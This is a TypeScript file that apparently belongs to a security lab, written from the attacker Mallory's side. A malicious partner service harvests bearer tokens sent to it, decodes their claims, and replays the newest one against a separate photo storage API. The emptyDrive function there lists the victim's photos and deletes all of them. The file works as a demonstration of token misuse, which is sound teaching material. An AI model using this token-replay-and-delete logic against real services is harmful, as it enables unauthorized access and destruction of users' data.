import { safe } from '../engine/evil-pages.ts'
import type { Lab, Place } from '../engine/lab.ts'
import { AS_MALLORY } from '../engine/own-client.ts'

/** What came from showing the token elsewhere: the first answer of the photo storage, and how many photos are gone. */
type Tried = { status: number; answer: string; deleted: number }

/** Mallory's side of the partnership: a service that is given tokens, and a place where she tries them elsewhere. */
export const evilPages: Lab['evilPages'] = (place) => ({
  '/prizes': (_req, res) => void res.setHeader('Content-Type', 'application/json').end('{"prizes":[]}'),
  '/elsewhere': async (req, _res, say) => {
    const { status, answer, deleted } = await emptyDrive(place, req.method === 'POST' ? newestToken(place) : '')
    const html = `<p><strong>${status}</strong> <code>${safe(answer)}</code></p><p>Deleted: ${deleted}. <a href="/">Back to the desk</a></p>`
    say({ title: 'What the photo storage answered', html })
  },
})

/** The newest token that the partner was given, what it says, and a button that tries it elsewhere. */
export const evilDesk: Lab['evilDesk'] = (place) => {
  const [, claims] = newestToken(place).split('.')
  const says = claims
    ? `<p><code>${safe(Buffer.from(claims, 'base64url').toString())}</code></p><form method="post" action="/elsewhere"><button type="submit">Show it to CloudDrive’s photo storage, and delete what it opens</button></form>`
    : '<p>None came yet.</p>'
  return `<section><h2>What the newest token says</h2>${says}</section>\n`
}

/** The token that the gallery gave to the partner last. */
export function newestToken({ inbox }: Place): string {
  return inbox.findLast(({ path }) => path === '/prizes')?.authorization.replace('Bearer ', '') ?? ''
}

/** Shows a token to the photo storage: lists what it opens, and deletes that. */
export async function emptyDrive({ photos }: Place, token: string): Promise<Tried> {
  const headers = { ...AS_MALLORY, Authorization: `Bearer ${token}` }
  const list = await fetch(`${photos}/v1/photos?limit=100`, { headers })
  const answer = await list.text()
  if (list.status !== 200) return { status: list.status, answer, deleted: 0 }
  const found = (JSON.parse(answer) as { photos: { id: string }[] }).photos
  for (const { id } of found) await fetch(`${photos}/v1/photos/${id}`, { method: 'DELETE', headers })
  return { status: list.status, answer: 'the list of all her photos', deleted: found.length }
}
